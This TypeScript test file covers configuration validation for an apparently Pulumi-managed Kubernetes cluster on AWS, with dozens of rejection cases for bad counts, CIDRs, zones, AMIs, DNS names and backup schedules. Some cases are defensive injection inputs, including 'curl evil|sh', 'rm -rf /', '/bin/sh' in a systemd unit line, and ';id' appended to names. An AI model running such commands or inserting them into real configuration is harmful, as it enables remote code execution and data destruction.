import { strict as assert } from "node:assert";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import * as ts from "typescript";
import { CONFIG_SCHEMA, ConfigError, PROJECT, configSchemaOf, validateConfig } from "../components/config";
import { renderEtcdBackupUnits } from "../components/kubeadm";
import { runProgram } from "../tools/harness/program";
import { sharedRun } from "../tools/harness/sharedRun";
import { readProject } from "../tools/harness/stackConfig";
import { EXISTING_VPC_CIDR, existingNatGateways } from "../tools/harness/cloud";
import { renderConfigTable, withConfigTable } from "../tools/config-table";

// An existing VPC in the dev stack's zones (the stand-in cloud knows any well-formed id: tools/harness/cloud.ts).
const DEV_ZONES = ["us-west-2a", "us-west-2b", "us-west-2c"];
const VPC_ID = "vpc-0e1e2e3e4e5e6e7e8";
const PUBLIC_NATS = existingNatGateways(VPC_ID).filter((n) => n.connectivityType === "public");
function existing(extra: Record<string, unknown> = {}) {
    return {
        vpcId: VPC_ID,
        publicSubnets: Object.fromEntries(DEV_ZONES.map((z, i) => [z, `subnet-0a${i}`])),
        privateSubnets: Object.fromEntries(DEV_ZONES.map((z, i) => [z, `subnet-0b${i}`])),
        natGatewayIds: PUBLIC_NATS.map((n) => n.id),
        ...extra,
    };
}

describe("config", () => {
    it("Pulumi.yaml declares exactly ClusterConfig's keys (but the region), each with a type the program reads and a description", () => {
        const project = readProject();
        assert.equal(project.name, PROJECT);
        // ClusterConfig's members, read from the source: the interface is the program's typed view.
        const source = ts.createSourceFile(
            "config.ts",
            readFileSync(join(__dirname, "..", "components", "config.ts"), "utf8"),
            ts.ScriptTarget.ES2022,
        );
        const iface = source.statements.find(
            (s): s is ts.InterfaceDeclaration => ts.isInterfaceDeclaration(s) && s.name.text === "ClusterConfig",
        );
        assert.ok(iface, "components/config.ts has no ClusterConfig interface");
        const members = iface.members.map((m) => (m.name as ts.Identifier).text).filter((k) => k !== "region");
        assert.deepEqual(Object.keys(project.config).sort(), members.sort());
        const kinds = {
            string: "string",
            integer: "integer",
            boolean: "boolean",
            "string[]": "array",
            object: "object",
        };
        for (const [key, declared] of Object.entries(project.config)) {
            assert.ok(declared.description && declared.description.length > 10, `${key} needs a description`);
            assert.notEqual(declared.default, undefined, `${key} needs a default`);
            const spec = CONFIG_SCHEMA[key as keyof typeof CONFIG_SCHEMA];
            assert.equal(kinds[spec.kind], declared.type, `${key} type`);
            assert.deepEqual(spec.default, declared.default, `${key} default`);
        }
    });

    it("the README's configuration table is the one generated from Pulumi.yaml", () => {
        const readme = readFileSync(join(__dirname, "..", "README.md"), "utf8");
        assert.equal(
            readme,
            withConfigTable(readme, readProject()),
            "README.md's configuration table is stale: run `npm run readme:config`",
        );
        for (const key of Object.keys(CONFIG_SCHEMA))
            assert.match(renderConfigTable(readProject()), new RegExp(`^\\| \`${key}\` \\|`, "m"));
    });

    it("a config key of a type the program cannot read is refused with the key and the type", () => {
        assert.throws(
            () =>
                configSchemaOf({
                    name: PROJECT,
                    config: { nodeLabels: { type: "array", items: { type: "integer" }, default: [] } },
                }),
            /Pulumi\.yaml: config key nodeLabels has type "array"; the program reads string, integer, boolean, object or an array of strings/,
        );
    });

    it("applies the defaults when nothing is set", () => {
        // sshAllowedCidrs and, for a VPC this stack creates, apiAllowedCidrs have no usable default
        // (see their cases below): every other key does
        const cfg = validateConfig(
            { sshAllowedCidrs: '["203.0.113.0/24"]', apiAllowedCidrs: '["203.0.113.0/24"]' },
            "us-east-1",
        );
        for (const [key, spec] of Object.entries(CONFIG_SCHEMA)) {
            if (key !== "existingVpc" && key !== "sshAllowedCidrs" && key !== "apiAllowedCidrs")
                assert.deepEqual((cfg as any)[key], spec.default, key);
        }
        assert.equal(cfg.existingVpc, undefined);
    });

    it("reports every bad key at once", () => {
        try {
            validateConfig(
                {
                    controlPlaneCount: "9",
                    workerCount: "-1",
                    natGateways: "many",
                    sshAllowedCidrs: '["203.0.113.0/24"]',
                    apiAllowedCidrs: '["203.0.113.0/24"]',
                },
                "us-east-1",
            );
            assert.fail("expected a ConfigError");
        } catch (err) {
            assert.ok(err instanceof ConfigError);
            assert.deepEqual(err.problems.map((p) => p.key).sort(), [
                "controlPlaneCount",
                "natGateways",
                "workerCount",
            ]);
        }
    });

    it("defect: an empty aws:region is named as such, not blamed on availabilityZones", () => {
        assert.throws(
            () => validateConfig({ sshAllowedCidrs: '["203.0.113.0/24"]', apiAllowedCidrs: '["203.0.113.0/24"]' }, ""),
            (e: unknown) => {
                assert.ok(e instanceof ConfigError);
                assert.deepEqual(
                    e.problems.map((p) => p.key),
                    ["aws:region"],
                );
                assert.match(e.message, /aws:region: "" is not allowed; expected an AWS region such as us-east-1/);
                return true;
            },
        );
    });

    it("defect: accepts a backup schedule with a time zone (systemd does), and renders it into the timer", () => {
        const cfg = validateConfig(
            {
                etcdBackupSchedule: "*-*-* 03:00:00 America/New_York",
                sshAllowedCidrs: '["203.0.113.0/24"]',
                apiAllowedCidrs: '["203.0.113.0/24"]',
            },
            "us-east-1",
        );
        assert.equal(cfg.etcdBackupSchedule, "*-*-* 03:00:00 America/New_York");
        const units = renderEtcdBackupUnits(
            {
                name: "k8s-cp-0",
                privateIp: "10.0.0.10",
                role: "control-plane",
                providerId: "aws:///us-east-1a/i-6990b264d292d228f",
            },
            cfg.etcdBackupSchedule,
            "s3://k8s-ha-backups-0a1b2c3/k8s/k8s-cp-0",
        );
        assert.match(units.timer, /^OnCalendar=\*-\*-\* 03:00:00 America\/New_York$/m);
    });

    it("accepts an even count and a single zone: high availability is the policy pack's call", () => {
        assert.equal(
            validateConfig(
                {
                    controlPlaneCount: "4",
                    availabilityZones: '["us-east-1a"]',
                    sshAllowedCidrs: '["203.0.113.0/24"]',
                    apiAllowedCidrs: '["203.0.113.0/24"]',
                },
                "us-east-1",
            ).controlPlaneCount,
            4,
        );
    });

    it("accepts an existing VPC that covers every zone", () => {
        const existingVpc = {
            vpcId: "vpc-0abc",
            publicSubnets: { "us-east-1a": "subnet-01" },
            privateSubnets: { "us-east-1a": "subnet-02" },
        };
        const cfg = validateConfig(
            {
                availabilityZones: '["us-east-1a"]',
                existingVpc: JSON.stringify(existingVpc),
                sshAllowedCidrs: '["203.0.113.0/24"]',
                apiAllowedCidrs: '["203.0.113.0/24"]',
            },
            "us-east-1",
        );
        assert.deepEqual(cfg.existingVpc, existingVpc);
    });

    it("accepts a zone (and a region) the zone table does not know, with allowUnknownZones", () => {
        const ssh = '["203.0.113.0/24"]';
        assert.throws(
            () =>
                validateConfig(
                    { availabilityZones: '["us-west-2a","us-west-2z"]', sshAllowedCidrs: ssh, apiAllowedCidrs: ssh },
                    "us-west-2",
                ),
            /availabilityZones: "us-west-2z"/,
        );
        assert.deepEqual(
            validateConfig(
                {
                    availabilityZones: '["us-west-2a","us-west-2z"]',
                    allowUnknownZones: "true",
                    sshAllowedCidrs: ssh,
                    apiAllowedCidrs: ssh,
                },
                "us-west-2",
            ).availabilityZones,
            ["us-west-2a", "us-west-2z"],
        );
        assert.equal(
            validateConfig(
                {
                    availabilityZones: '["xx-moon-1a"]',
                    allowUnknownZones: "true",
                    sshAllowedCidrs: ssh,
                    apiAllowedCidrs: ssh,
                },
                "xx-moon-1",
            ).region,
            "xx-moon-1",
        );
        // the switch admits unknown names, not malformed ones or zones of another region
        assert.throws(
            () =>
                validateConfig(
                    {
                        availabilityZones: '["us-east-1a"]',
                        allowUnknownZones: "true",
                        sshAllowedCidrs: ssh,
                        apiAllowedCidrs: ssh,
                    },
                    "us-west-2",
                ),
            /zone names of region us-west-2/,
        );
    });

    it("accepts Graviton types now that they get the arm64 image, and an existing VPC behind an internal API without NAT ids", async () => {
        const graviton = await sharedRun({
            stack: "dev",
            config: { controlPlaneInstanceType: "m7g.large", bastionInstanceType: "t4g.micro" },
        });
        assert.ifError(graviton.error);
        const internal = await sharedRun({
            stack: "dev",
            config: { internalApi: true, existingVpc: existing({ natGatewayIds: [] }) },
        });
        assert.ifError(internal.error);
    });

    it("accepts the API's DNS name at the zone's apex, and a private zone with an existing VPC (the stand-in's zones: tools/harness/cloud.ts)", async () => {
        const apex = await sharedRun({
            stack: "dev",
            config: { apiDnsZoneId: "Z0EXAMPLECOM", apiDnsName: "example.com" },
        });
        assert.ifError(apex.error);
        const privateZone = await sharedRun({
            stack: "dev",
            config: {
                apiDnsZoneId: "Z0EXAMPLEINTERNAL",
                apiDnsName: "api.k8s.example.internal",
                existingVpc: existing(),
            },
        });
        assert.ifError(privateZone.error);
    });

    // Each case: a config override, the key the message must name, and a fragment of what is allowed.
    const cases: [string, Record<string, unknown>, string, string][] = [
        ["count zero", { controlPlaneCount: 0 }, "controlPlaneCount", "an integer from 1 to 7"],
        ["count eight", { controlPlaneCount: 8 }, "controlPlaneCount", "an integer from 1 to 7"],
        ["count fractional", { controlPlaneCount: 2.5 }, "controlPlaneCount", "an integer"],
        ["count a word", { controlPlaneCount: "three" }, "controlPlaneCount", "an integer"],
        ["negative workers", { workerCount: -1 }, "workerCount", "an integer from 0 to 100"],
        ["too many workers", { workerCount: 101 }, "workerCount", "an integer from 0 to 100"],
        ["no zones", { availabilityZones: [] }, "availabilityZones", "1 to 6 distinct zone names"],
        [
            "duplicate zone",
            { availabilityZones: ["us-west-2a", "us-west-2a", "us-west-2b"] },
            "availabilityZones",
            "(duplicate)",
        ],
        [
            "zone of another region",
            { availabilityZones: ["us-west-2a", "eu-west-1b", "us-west-2c"] },
            "availabilityZones",
            "zone names of region us-west-2",
        ],
        ["zones not a list", { availabilityZones: "us-west-2a" }, "availabilityZones", "a list of strings"],
        [
            "seven zones",
            { availabilityZones: ["a", "b", "c", "d", "e", "f", "g"].map((z) => `us-west-2${z}`) },
            "availabilityZones",
            "1 to 6",
        ],
        ["version without patch", { kubernetesVersion: "1.35" }, "kubernetesVersion", "1.N.P"],
        ["version with v", { kubernetesVersion: "v1.35.2" }, "kubernetesVersion", "1.N.P"],
        ["minor too old", { kubernetesVersion: "1.28.4" }, "kubernetesVersion", "N from 31 to 35"],
        ["minor too new", { kubernetesVersion: "1.40.0" }, "kubernetesVersion", "N from 31 to 35"],
        [
            "defect: a minor that needs containerd 2.x (the nodes run Ubuntu's 1.7)",
            { kubernetesVersion: "1.36.0" },
            "kubernetesVersion",
            "containerd 1.7 ends at 1.35",
        ],
        ["malformed VPC CIDR", { vpcCidr: "10.0.0.0" }, "vpcCidr", "an IPv4 network CIDR from /16 to /20"],
        ["VPC CIDR with host bits", { vpcCidr: "10.0.0.1/16" }, "vpcCidr", "host bits are set"],
        ["VPC too small", { vpcCidr: "10.0.0.0/24" }, "vpcCidr", "/16 to /20"],
        ["octet above 255", { podCidr: "10.300.0.0/16" }, "podCidr", "an octet is above 255"],
        ["pods overlap VPC", { podCidr: "10.0.0.0/16" }, "podCidr", "does not overlap vpcCidr"],
        ["services overlap pods", { serviceCidr: "10.244.0.0/16" }, "serviceCidr", "does not overlap podCidr"],
        ["services overlap VPC", { serviceCidr: "10.0.128.0/20" }, "serviceCidr", "does not overlap vpcCidr"],
        ["service CIDR too big", { serviceCidr: "172.16.0.0/8" }, "serviceCidr", "from /12 to /24"],
        [
            "bad API CIDR",
            { apiAllowedCidrs: ["203.0.113.0/24", "everyone"] },
            "apiAllowedCidrs",
            "a list of IPv4 network CIDRs",
        ],
        ["API CIDRs not a list", { apiAllowedCidrs: "203.0.113.0/24" }, "apiAllowedCidrs", "a list of strings"],
        ["bad SSH CIDR", { sshAllowedCidrs: ["198.51.100.7"] }, "sshAllowedCidrs", "a list of IPv4 network CIDRs"],
        ["cluster name uppercase", { clusterName: "Prod" }, "clusterName", "3-20 lowercase letters"],
        ["cluster name too long", { clusterName: "a-very-long-cluster-name" }, "clusterName", "3-20 lowercase letters"],
        ["instance type", { controlPlaneInstanceType: "large" }, "controlPlaneInstanceType", "an EC2 instance type"],
        ["AMI id", { amiId: "ubuntu" }, "amiId", "an AMI id such as ami-"],
        ["root volume", { rootVolumeSizeGiB: 8 }, "rootVolumeSizeGiB", "an integer from 20 to 1024"],
        ["NAT mode", { natGateways: "two" }, "natGateways", "'single' or 'perAz'"],
        ["protect not boolean", { protect: "yes" }, "protect", "true or false"],
        ["internalApi not boolean", { internalApi: 1 }, "internalApi", "true or false"],
        // pulumi up installs the add-ons through the API load balancer from where it runs
        [
            "an internal API in a VPC this stack creates",
            { internalApi: true },
            "internalApi",
            "false unless existingVpc is set",
        ],
        [
            "no API CIDR with a VPC this stack creates",
            { apiAllowedCidrs: [] },
            "apiAllowedCidrs",
            "at least one CIDR, unless existingVpc is set",
        ],
        [
            "existing VPC missing a zone",
            {
                existingVpc: {
                    vpcId: "vpc-0abc",
                    publicSubnets: { "us-west-2a": "subnet-01" },
                    privateSubnets: { "us-west-2a": "subnet-02" },
                },
            },
            "existingVpc",
            "no subnets for us-west-2b, us-west-2c",
        ],
        [
            "existing VPC bad id",
            { existingVpc: { vpcId: "my-vpc", publicSubnets: {}, privateSubnets: {} } },
            "existingVpc",
            "vpcId: 'vpc-",
        ],
        ["P-224 style algorithm", { pkiAlgorithm: "ED25519" }, "pkiAlgorithm", "'RSA' or 'ECDSA'"],
        ["bad extra SAN", { apiExtraSans: ["not a name!"] }, "apiExtraSans", "a list of DNS names or IP addresses"],
        ["unknown key (typo)", { controlPlaneCont: 3 }, "controlPlaneCont", "no such key; known keys are clusterName"],
        ["VPC CIDR with a leading zero", { vpcCidr: "010.0.0.0/16" }, "vpcCidr", "an octet has a leading zero"],
        ["VPC CIDR with a /016 prefix", { vpcCidr: "10.0.0.0/016" }, "vpcCidr", "the prefix has a leading zero"],
        [
            "SSH CIDR with a leading zero",
            { sshAllowedCidrs: ["010.0.0.0/8"] },
            "sshAllowedCidrs",
            "an octet has a leading zero",
        ],
        [
            "SSH CIDR /00",
            { sshAllowedCidrs: ["0.0.0.0/00"] },
            "sshAllowedCidrs",
            "the prefix has a leading zero (write /0)",
        ],
        ["SSH CIDR with a space", { sshAllowedCidrs: [" 203.0.113.0/24"] }, "sshAllowedCidrs", "canonical form"],
        [
            "SSH CIDR with host bits",
            { sshAllowedCidrs: ["203.0.113.7/24"] },
            "sshAllowedCidrs",
            "host bits are set (the network address is 203.0.113.0/24)",
        ],
        ["SSH CIDR prefix 33", { sshAllowedCidrs: ["203.0.113.7/33"] }, "sshAllowedCidrs", "the prefix is above /32"],
        [
            "duplicate SSH CIDR",
            { sshAllowedCidrs: ["203.0.113.0/24", "198.51.100.0/24", "203.0.113.0/24"] },
            "sshAllowedCidrs",
            "entries 0 and 2 are both 203.0.113.0/24",
        ],
        [
            "duplicate API CIDR",
            { apiAllowedCidrs: ["198.51.100.0/24", "198.51.100.0/24"] },
            "apiAllowedCidrs",
            "entries 0 and 1 are both 198.51.100.0/24",
        ],
        [
            "API CIDR repeats the VPC rule",
            { apiAllowedCidrs: ["10.0.0.0/16"] },
            "apiAllowedCidrs",
            "the stack always admits the VPC to the API (rule api-lb-in-vpc)",
        ],
        [
            "defect: no SSH source (the default): the bastion would admit nobody",
            { sshAllowedCidrs: [] },
            "sshAllowedCidrs",
            "at least one CIDR: pulumi up reaches every node over SSH through the bastion",
        ],
        ["version with a leading zero", { kubernetesVersion: "1.035.2" }, "kubernetesVersion", "a version 1.N.P"],
        ["patch with a leading zero", { kubernetesVersion: "1.35.02" }, "kubernetesVersion", "a version 1.N.P"],
        [
            "Graviton control plane with an explicit amd64 image",
            { amiId: "ami-0123456789abcdef0", controlPlaneInstanceType: "m7g.large" },
            "controlPlaneInstanceType",
            "an x86_64 instance type: amiId ami-0123456789abcdef0 is an x86_64 image and m7g.large is arm64",
        ],
        [
            "Graviton workers with an explicit amd64 image",
            { amiId: "ami-0123456789abcdef0", workerInstanceType: "c7gn.xlarge" },
            "workerInstanceType",
            "an x86_64 instance type",
        ],
        [
            "Graviton bastion with an explicit amd64 image",
            { amiId: "ami-0123456789abcdef0", bastionInstanceType: "t4g.micro" },
            "bastionInstanceType",
            "an x86_64 instance type",
        ],
        [
            "backup at hour 25",
            { etcdBackupSchedule: "*-*-* 25:00:00" },
            "etcdBackupSchedule",
            "a systemd OnCalendar expression",
        ],
        [
            "backup in month 13",
            { etcdBackupSchedule: "*-13-01 03:00" },
            "etcdBackupSchedule",
            "a systemd OnCalendar expression",
        ],
        [
            "backup on day 32",
            { etcdBackupSchedule: "*-*-32 03:00" },
            "etcdBackupSchedule",
            "a systemd OnCalendar expression",
        ],
        [
            "backup at minute 61",
            { etcdBackupSchedule: "*-*-* 03:61" },
            "etcdBackupSchedule",
            "a systemd OnCalendar expression",
        ],
        [
            "backup in an unknown time zone",
            { etcdBackupSchedule: "*-*-* 03:00 Mars/Olympus" },
            "etcdBackupSchedule",
            "a systemd OnCalendar expression",
        ],
        [
            "existing VPC: one subnet both public and private",
            {
                existingVpc: {
                    vpcId: "vpc-0abc",
                    publicSubnets: { "us-west-2a": "subnet-01", "us-west-2b": "subnet-03", "us-west-2c": "subnet-05" },
                    privateSubnets: { "us-west-2a": "subnet-01", "us-west-2b": "subnet-04", "us-west-2c": "subnet-06" },
                },
            },
            "existingVpc",
            "subnet-01 is also publicSubnets.us-west-2a (privateSubnets.us-west-2a)",
        ],
        [
            "existing VPC: two zones share a private subnet",
            {
                existingVpc: {
                    vpcId: "vpc-0abc",
                    publicSubnets: { "us-west-2a": "subnet-01", "us-west-2b": "subnet-03", "us-west-2c": "subnet-05" },
                    privateSubnets: { "us-west-2a": "subnet-02", "us-west-2b": "subnet-02", "us-west-2c": "subnet-06" },
                },
            },
            "existingVpc",
            "each subnet once",
        ],
        // Zones and regions against the zone table (components/net/zones.ts).
        [
            "a zone the region does not have",
            { availabilityZones: ["us-west-2a", "us-west-2b", "us-west-2e"] },
            "availabilityZones",
            "us-west-2 has us-west-2a, us-west-2b, us-west-2c, us-west-2d",
        ],
        [
            "a zone letter typo",
            { availabilityZones: ["us-west-2a", "us-west-2b", "us-west-2z"] },
            "availabilityZones",
            "set allowUnknownZones: true",
        ],
        [
            "an unknown region",
            { "aws:region": "xx-moon-1", availabilityZones: ["xx-moon-1a"] },
            "aws:region",
            "a commercial AWS region the zone table knows",
        ],
        [
            "a GovCloud region without the switch",
            { "aws:region": "us-gov-west-1", availabilityZones: ["us-gov-west-1a"] },
            "aws:region",
            "for a newer one set allowUnknownZones: true",
        ],
        ["an uppercase region", { "aws:region": "US-WEST-2" }, "aws:region", "an AWS region such as us-east-1"],
        [
            "an uppercase zone",
            { availabilityZones: ["US-WEST-2A", "us-west-2b", "us-west-2c"] },
            "availabilityZones",
            "zone names of region us-west-2",
        ],
        [
            "a zone with a shell command",
            { availabilityZones: ["us-west-2a;reboot", "us-west-2b", "us-west-2c"] },
            "availabilityZones",
            "zone names of region us-west-2",
        ],
        ["allowUnknownZones not a boolean", { allowUnknownZones: "yes" }, "allowUnknownZones", "true or false"],
        // Images: an explicit amiId is looked up (the stand-in: `a64` arm64, `dead` missing).
        [
            "an arm64 image with x86_64 workers",
            { amiId: "ami-0a64a64a64a64a64a", controlPlaneInstanceType: "m7g.large", bastionInstanceType: "t4g.micro" },
            "workerInstanceType",
            "an arm64 instance type: amiId ami-0a64a64a64a64a64a is an arm64 image",
        ],
        [
            "an AMI that does not exist",
            { amiId: "ami-0deadbeef1234567" },
            "amiId",
            "an AMI this account can launch in us-west-2",
        ],
        ["an uppercase AMI id", { amiId: "AMI-0123456789ABCDEF0" }, "amiId", "an AMI id such as ami-"],
        ["an AMI id too long", { amiId: "ami-0123456789abcdef01" }, "amiId", "an AMI id such as ami-"],
        // Instance types.
        [
            "an instance size that does not exist",
            { controlPlaneInstanceType: "m6i.huge" },
            "controlPlaneInstanceType",
            "family '.' size",
        ],
        [
            "an instance type with a shell command",
            { bastionInstanceType: "t3.micro;curl evil|sh" },
            "bastionInstanceType",
            "an EC2 instance type",
        ],
        [
            "an uppercase instance type",
            { workerInstanceType: "M6I.LARGE" },
            "workerInstanceType",
            "an EC2 instance type",
        ],
        [
            "a Mac instance type",
            { workerInstanceType: "mac2.metal" },
            "workerInstanceType",
            "mac families run macOS only",
        ],
        // Names, numbers and types.
        [
            "a cluster name with shell metacharacters",
            { clusterName: "k8s;rm -rf" },
            "clusterName",
            "3-20 lowercase letters",
        ],
        ["a cluster name in unicode", { clusterName: "kübernetes" }, "clusterName", "3-20 lowercase letters"],
        ["a very long cluster name", { clusterName: "a".repeat(10000) }, "clusterName", "3-20 lowercase letters"],
        ["a cluster name ending in '-'", { clusterName: "k8s-" }, "clusterName", "ending with a letter or digit"],
        ["a negative root volume", { rootVolumeSizeGiB: -50 }, "rootVolumeSizeGiB", "an integer from 20 to 1024"],
        ["a fractional worker count", { workerCount: 1.5 }, "workerCount", "an integer"],
        ["a huge control-plane count", { controlPlaneCount: 1e9 }, "controlPlaneCount", "an integer from 1 to 7"],
        ["a count that is a boolean", { controlPlaneCount: true }, "controlPlaneCount", "an integer"],
        ["retention 0 days", { etcdBackupRetentionDays: 0 }, "etcdBackupRetentionDays", "an integer from 1 to 3650"],
        [
            "retention of a century",
            { etcdBackupRetentionDays: 36500 },
            "etcdBackupRetentionDays",
            "an integer from 1 to 3650",
        ],
        ["alerts not a boolean", { alerts: "1" }, "alerts", "true or false"],
        [
            "a version with a trailing newline",
            { kubernetesVersion: "1.35.4\n" },
            "kubernetesVersion",
            "a version 1.N.P",
        ],
        // CIDRs: overlaps and non-canonical text.
        ["services equal to the VPC", { serviceCidr: "10.0.0.0/16" }, "serviceCidr", "does not overlap vpcCidr"],
        ["pods inside the services", { podCidr: "10.96.0.0/16" }, "serviceCidr", "does not overlap podCidr"],
        [
            "a pod CIDR with a trailing space",
            { podCidr: "10.244.0.0/16 " },
            "podCidr",
            "not an IPv4 CIDR of the form a.b.c.d/p",
        ],
        ["a service CIDR with host bits", { serviceCidr: "10.96.0.1/12" }, "serviceCidr", "host bits are set"],
        ["a VPC CIDR in full-width digits", { vpcCidr: "１０.0.0.0/16" }, "vpcCidr", "an IPv4 network CIDR"],
        ["an IPv6 API CIDR", { apiAllowedCidrs: ["::/0"] }, "apiAllowedCidrs", "a list of IPv4 network CIDRs"],
        [
            "SSH CIDRs as an object",
            { sshAllowedCidrs: { a: "203.0.113.0/24" } },
            "sshAllowedCidrs",
            "a list of strings",
        ],
        // Text that reaches node scripts and certificates.
        [
            "an extra SAN with a shell command",
            { apiExtraSans: ["api.example.com;id"] },
            "apiExtraSans",
            "a list of DNS names or IP addresses",
        ],
        ["NAT mode in the wrong case", { natGateways: "PerAz" }, "natGateways", "'single' or 'perAz'"],
        ["a lowercase PKI algorithm", { pkiAlgorithm: "rsa" }, "pkiAlgorithm", "'RSA' or 'ECDSA'"],
        [
            "a backup schedule with a shell command",
            { etcdBackupSchedule: "*-*-* 03:00:00; rm -rf /" },
            "etcdBackupSchedule",
            "a systemd OnCalendar expression",
        ],
        [
            "a backup schedule with a unit line",
            { etcdBackupSchedule: "daily\nExecStart=/bin/sh" },
            "etcdBackupSchedule",
            "a systemd OnCalendar expression",
        ],
        [
            "a replace trigger with a newline",
            { nodeReplaceTriggers: { "k8s-dev-cp-0": "x\ny" } },
            "nodeReplaceTriggers",
            "a value of 1-64 letters",
        ],
        [
            "a replace trigger for a node the stack does not have",
            { nodeReplaceTriggers: { "k8s-dev-cp-9": "2026-11-30" } },
            "nodeReplaceTriggers",
            "node names of this stack",
        ],
        // An existing VPC, looked up before anything is built.
        [
            "an existing VPC that does not exist",
            { existingVpc: existing({ vpcId: "vpc-0dead0beef0dead0b" }) },
            "existingVpc",
            "a VPC of this account in us-west-2",
        ],
        [
            "an existing VPC without its NAT gateways, internet-facing API",
            { existingVpc: existing({ natGatewayIds: [] }) },
            "existingVpc",
            `natGatewayIds listing every public NAT gateway of ${VPC_ID} (missing ${PUBLIC_NATS.map((n) => n.id).join(", ")})`,
        ],
        [
            "an existing VPC with a NAT gateway of another VPC",
            { existingVpc: existing({ natGatewayIds: [...PUBLIC_NATS.map((n) => n.id), "nat-0123456789abcdef0"] }) },
            "existingVpc",
            `natGatewayIds naming available public NAT gateways of ${VPC_ID}`,
        ],
        [
            "an existing VPC with its private NAT gateway listed",
            { existingVpc: existing({ natGatewayIds: existingNatGateways(VPC_ID).map((n) => n.id) }) },
            "existingVpc",
            "natGatewayIds naming available public NAT gateways",
        ],
        [
            "pods inside the existing VPC's real block",
            { podCidr: EXISTING_VPC_CIDR, existingVpc: existing() },
            "podCidr",
            `a CIDR that does not overlap the block ${EXISTING_VPC_CIDR} of existingVpc`,
        ],
        [
            "an API CIDR repeating the existing VPC's block",
            { apiAllowedCidrs: [EXISTING_VPC_CIDR], existingVpc: existing() },
            "apiAllowedCidrs",
            "is rule api-lb-in-vpc (the VPC's block)",
        ],
        [
            "an API CIDR repeating a NAT address",
            { apiAllowedCidrs: [`${PUBLIC_NATS[1].publicIp}/32`], existingVpc: existing() },
            "apiAllowedCidrs",
            `is rule api-lb-in-nat-1 (${PUBLIC_NATS[1].id})`,
        ],
        [
            "an existing VPC with an unknown field",
            { existingVpc: existing({ cidr: "10.0.0.0/16" }) },
            "existingVpc",
            "unknown field cidr",
        ],
        // The API's DNS name: both keys or neither, the name inside the zone (looked up before anything is built).
        [
            "a DNS name without its zone",
            { apiDnsName: "api.dev.example.com" },
            "apiDnsZoneId",
            "apiDnsZoneId and apiDnsName are set together, or neither",
        ],
        [
            "a hosted zone without a name",
            { apiDnsZoneId: "Z0EXAMPLECOM" },
            "apiDnsName",
            "apiDnsZoneId and apiDnsName are set together, or neither",
        ],
        [
            "a zone id with its /hostedzone/ prefix",
            { apiDnsZoneId: "/hostedzone/Z0EXAMPLECOM", apiDnsName: "api.dev.example.com" },
            "apiDnsZoneId",
            "a Route 53 hosted zone id such as Z0123456789ABCDEFGHIJ",
        ],
        [
            "an upper-case DNS name",
            { apiDnsZoneId: "Z0EXAMPLECOM", apiDnsName: "API.dev.example.com" },
            "apiDnsName",
            "a fully qualified lower-case DNS name",
        ],
        [
            "a DNS name with a trailing dot",
            { apiDnsZoneId: "Z0EXAMPLECOM", apiDnsName: "api.dev.example.com." },
            "apiDnsName",
            "no trailing dot",
        ],
        [
            "a wildcard DNS name",
            { apiDnsZoneId: "Z0EXAMPLECOM", apiDnsName: "*.dev.example.com" },
            "apiDnsName",
            "no wildcard",
        ],
        [
            "a one-label DNS name",
            { apiDnsZoneId: "Z0EXAMPLECOM", apiDnsName: "api" },
            "apiDnsName",
            "a fully qualified lower-case DNS name",
        ],
        [
            "an address as the DNS name",
            { apiDnsZoneId: "Z0EXAMPLECOM", apiDnsName: "203.0.113.10" },
            "apiDnsName",
            "not an address",
        ],
        [
            "a DNS name with a shell command",
            { apiDnsZoneId: "Z0EXAMPLECOM", apiDnsName: "api.example.com;id" },
            "apiDnsName",
            "a fully qualified lower-case DNS name",
        ],
        [
            "a DNS name outside the zone",
            { apiDnsZoneId: "Z0EXAMPLECOM", apiDnsName: "api.example.org" },
            "apiDnsName",
            "a name inside hosted zone Z0EXAMPLECOM (example.com), such as api.example.com",
        ],
        [
            "a DNS name that only ends like the zone",
            { apiDnsZoneId: "Z0EXAMPLECOM", apiDnsName: "api.notexample.com" },
            "apiDnsName",
            "a name inside hosted zone Z0EXAMPLECOM (example.com)",
        ],
        [
            "a hosted zone that does not exist",
            { apiDnsZoneId: "Z0NOSUCHZONE", apiDnsName: "api.dev.example.com" },
            "apiDnsZoneId",
            "a Route 53 hosted zone this account can read (the lookup found none",
        ],
        [
            "a private zone for the VPC the stack creates",
            { apiDnsZoneId: "Z0EXAMPLEINTERNAL", apiDnsName: "api.k8s.example.internal" },
            "apiDnsZoneId",
            "a public hosted zone: example.internal is private",
        ],
        [
            "an existing VPC whose NAT ids are not a list",
            { existingVpc: existing({ natGatewayIds: "nat-0123456789abcdef0" }) },
            "existingVpc",
            "natGatewayIds: a list of distinct NAT gateway ids",
        ],
    ];

    describe(`rejects bad values before any resource is registered (${cases.length} cases)`, () => {
        for (const [title, override, key, allowed] of cases) {
            it(title, async () => {
                const run = await runProgram({ stack: "dev", config: override });
                assert.ok(run.error instanceof ConfigError, `expected a ConfigError, got ${run.error}`);
                assert.match(run.error.message, new RegExp(`- ${key}: `), "the message names the key");
                assert.ok(
                    run.error.message.includes(allowed),
                    `the message says what is allowed:\n${run.error.message}`,
                );
                assert.equal(run.resources.length, 0, "no resource may be registered");
            });
        }
    });
});
